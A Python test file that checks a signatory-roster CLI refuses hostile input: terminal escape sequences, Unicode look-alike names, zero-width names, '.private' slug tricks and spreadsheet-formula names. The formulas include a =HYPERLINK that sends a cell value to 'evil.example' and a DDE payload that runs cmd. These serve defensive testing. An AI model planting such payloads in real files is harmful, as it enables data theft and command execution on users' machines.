"""Finding 7 of #12: text that should not pass. `sign list --format csv` wrote escape
sequences to a terminal (a terminal-title sequence even when piped); look-alike names from
scripts a hand-made table did not cover (Cherokee "ᎪᏞᎬX EXAMPLE" beside "Alex Example")
passed `sign add` and `validate`; a name of only a zero-width space, or holding a TAB, was
accepted; `withdraw --reason` took control sequences that `add` refuses; a name that is a
spreadsheet formula imported without a word; a letter slug ending in `.private` reached
another letter's private contacts file."""

from __future__ import annotations

import json

import pytest

from .conftest import SLUG, letter_yaml, roster_yaml, signatory_yaml, write_workspace
from .conftest import run_cli as run

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x9b31m\x9d0;title\x9c"


def form(root, *rows: list[str]):
    """A form export, written as a spreadsheet writes it."""
    import csv

    path = root / "form.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    return path


def validate_rules(root) -> list[tuple[str, int]]:
    result = run("validate", "--format", "json")
    return [(p["rule"], p["line"]) for p in json.loads(result.stdout)["problems"]]


@pytest.fixture
def ws(hostile_root):
    write_workspace(hostile_root, letter_yaml(), roster_yaml([
        signatory_yaml("Alex Example", "individual"),
        signatory_yaml("Amnesty International")]))
    return hostile_root


def roster_bytes(root) -> bytes:
    return (root / "signatories" / f"{SLUG}.yaml").read_bytes()


# --- escape sequences ----------------------------------------------------------------------------

def test_sign_list_sends_no_escape_sequence_in_any_format(hostile_root):
    """A name typed into the roster by hand (validate flags it; sign list must still be safe)."""
    write_workspace(hostile_root, letter_yaml(), roster_yaml([
        signatory_yaml(f"Evil{ESCAPES} Org", title=f"t{ESCAPES}", withdrawal_reason=ESCAPES)]))
    for fmt in ("csv", "json", "table"):
        out = run("sign", "list", SLUG, "--format", fmt).stdout
        assert not any(ch in out for ch in "\x1b\x07\x9b\x9c\x9d"), (fmt, out)
    records = json.loads(run("sign", "list", SLUG, "--format", "json").stdout)
    assert records[0]["name"] == f"Evil{ESCAPES} Org"  # the data a program reads is intact
    assert "<U+001B>" in run("sign", "list", SLUG, "--format", "csv").stdout


def test_fmt_check_shows_no_escape_sequence(hostile_root):
    write_workspace(hostile_root, letter_yaml(), roster_yaml([
        signatory_yaml(f"Evil{ESCAPES} Org")]).replace("signatories:", "signatories:  "))
    out = run("fmt", "--check").output
    assert not any(ch in out for ch in "\x1b\x07\x9b\x9d"), out


# --- look-alikes from any script -----------------------------------------------------------------

@pytest.mark.parametrize("name", ["\u13aa\u13de\u13acX EXAMPLE",  # Cherokee ᎪᏞᎬX
                                  "\u0531lex Example",  # Armenian capital AYB? no: a look-alike
                                  "\U0001d400lex Example",  # mathematical bold A
                                  "\u0391lex Ex\u0430mple"])  # Greek and Cyrillic
def test_look_alikes_from_the_confusables_data(ws, name):
    before = roster_bytes(ws)
    result = run("sign", "add", SLUG, "--name", name, "--kind", "individual", "--date",
                 "2023-09-21")
    assert result.exit_code == 1, result.output
    assert "Alex Example" in result.output and "nothing added" in result.output
    assert roster_bytes(ws) == before
    write_workspace(ws, letter_yaml(), roster_yaml([
        signatory_yaml("Alex Example", "individual"), signatory_yaml(name, "individual")]))
    rules = validate_rules(ws)
    # a near duplicate; or, for a letter that Unicode itself folds to 'A' (the mathematical
    # bold 𝐀, by NFKD), the same name outright
    assert ("roster-near-duplicate", 7) in rules or ("roster-duplicate", 7) in rules, rules


def test_cherokee_mixed_with_latin_is_mixed_script(ws):
    write_workspace(ws, letter_yaml(), roster_yaml([
        signatory_yaml("\u13aa\u13de\u13acX EXAMPLE", "individual")]))
    rules = validate_rules(ws)
    assert ("mixed-script", 3) in rules, rules


# --- names that are not names --------------------------------------------------------------------

UNPRINTABLE = ["\u200b", "\u200b\u2060 \ufeff", " \u00a0 ", "Jane\tDoe", "Jane\x1b[2JDoe",
               "\u200e"]


@pytest.mark.parametrize("name", UNPRINTABLE)
def test_unprintable_names_are_refused_everywhere_a_name_enters(ws, name):
    before = roster_bytes(ws)
    add = run("sign", "add", SLUG, "--name", name, "--kind", "individual")
    assert add.exit_code in (1, 2) and "Added" not in add.output, add.output
    update = run("sign", "update", SLUG, "Alex Example", "--name", name)
    assert update.exit_code == 1 and "Updated" not in update.output, update.output
    assert roster_bytes(ws) == before
    csv = form(ws, ["Name", "Email"], [name, "someone@example.org"])
    imported = run("sign", "import", SLUG, str(csv))
    assert imported.exit_code == 1, imported.output
    assert roster_bytes(ws) == before
    # and by hand
    write_workspace(ws, letter_yaml(), roster_yaml([signatory_yaml(name, "individual")]))
    rules = validate_rules(ws)
    assert ("name-unprintable", 3) in rules or ("bad-value", 3) in rules \
        or ("missing-field", 3) in rules, rules


def test_withdraw_reason_is_checked_like_add(ws):
    before = roster_bytes(ws)
    result = run("sign", "withdraw", SLUG, "Alex Example", "--reason", f"board{ESCAPES}")
    assert result.exit_code == 1
    assert "retype it without them" in result.output and "\x1b" not in result.output
    assert roster_bytes(ws) == before


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")',
                                     "+cmd|' /C calc'!A0", "@SUM(1+1)", "=1+1",
                                     "'=HYPERLINK(\"x\")"])
def test_formula_names_are_refused_at_import_and_flagged_by_validate(ws, formula):
    before = roster_bytes(ws)
    csv = form(ws, ["Name", "Email"], [formula, "someone@example.org"],
               ["Jane Doe", "jane@example.org"])
    result = run("sign", "import", SLUG, str(csv))
    assert result.exit_code == 1
    assert "spreadsheet formula" in result.output
    assert roster_bytes(ws) == before
    write_workspace(ws, letter_yaml(), roster_yaml([signatory_yaml(formula.lstrip("'"))]))
    assert ("name-formula", 3) in validate_rules(ws)


@pytest.mark.parametrize("name", ["+972 Magazine", "@Mention Collective", "=Equals Org"])
def test_names_that_only_start_with_a_sign_still_import(ws, name):
    csv = ws / "form.csv"
    csv.write_text(f"Name,Kind\n{name},organization\n", encoding="utf-8")
    result = run("sign", "import", SLUG, str(csv))
    assert result.exit_code == 0, result.output


# --- letters named *.private ---------------------------------------------------------------------

def test_a_letter_named_private_never_reaches_private_contacts(ws):
    private = ws / "signatories" / f"{SLUG}.private.yaml"
    private.write_text("signatories:\n  - name: Alex Example\n    email: alex@example.org\n")
    before = private.read_bytes()
    (ws / "letters" / f"{SLUG}.private.yaml").write_text(letter_yaml())
    for args in (["sign", "add", f"{SLUG}.private", "--name", "Jane Doe", "--kind",
                  "individual", "--email", "jane@example.org"],
                 ["sign", "list", f"{SLUG}.private"],
                 ["sign", "erase", f"{SLUG}.private", "Alex Example", "--yes"],
                 ["render", f"{SLUG}.private", "--to", "txt"]):
        result = run(*args)
        assert result.exit_code == 1, (args, result.output)
        assert "may not end in '.private" in result.output, (args, result.output)
        assert "alex@example.org" not in result.output
    assert private.read_bytes() == before
    result = run("validate", "--format", "github")
    assert f"file=letters/{SLUG}.private.yaml,line=1,col=1,title=slug-reserved::" \
        in result.output
    assert "alex@example.org" not in result.output
